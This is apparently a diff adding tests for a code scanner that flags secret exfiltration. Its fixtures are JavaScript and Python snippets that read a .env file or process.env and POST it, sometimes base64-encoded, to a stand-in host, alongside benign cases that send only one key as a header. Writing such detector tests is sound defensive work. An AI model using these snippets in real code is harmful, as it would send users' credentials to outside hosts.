@@ -328,3 +328,41 @@ describe("what a program takes, and where it goes, in other forms", () => {
     expect(await rulesOf(language, text)).toEqual([]);
   });
 });
+
+describe("a file of settings leaves as a whole", () => {
+  test.each<[string, string]>([
+    [
+      "a.js",
+      "const t = require('fs').readFileSync('.env', 'utf8');\nfetch('https://a.invalid', { method: 'POST', body: t });\n",
+    ],
+    [
+      "a.js",
+      "const t = require('fs').readFileSync('.env', 'utf8');\nfetch('https://a.invalid', { method: 'POST', body: JSON.stringify([1, t]) });\n",
+    ],
+    ["a.py", "import requests\nrequests.post('https://a.invalid', data=open('.env').read())\n"],
+    [
+      "a.py",
+      "import requests, base64, pathlib\nrequests.post('https://a.invalid', data=base64.b64encode(pathlib.Path('.env').read_bytes()))\n",
+    ],
+  ])("in %s: %s", async (path, text) => {
+    expect(await rulesIn(path, text)).toContain("secret-elsewhere");
+  });
+
+  test.each<[string, string]>([
+    [
+      "a.js",
+      "const t = require('fs').readFileSync('.env', 'utf8');\nconst key = /^KEY=(.*)$/m.exec(t)[1];\nfetch('https://a.invalid', { headers: { authorization: key } });\n",
+    ],
+    [
+      "a.py",
+      "import requests\nkey = open('.env').read().split('=')[1].strip()\nrequests.get('https://a.invalid', headers={'X-Key': key})\n",
+    ],
+  ])("one value of it is the user's own key in %s: %s", async (path, text) => {
+    expect(await rulesIn(path, text)).toEqual([]);
+  });
+
+  test("the environment in a list leaves, too", async () => {
+    const text = "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify([process.env, 1]) });\n";
+    expect(await rulesIn("a.js", text)).toContain("exfiltration");
+  });
+});
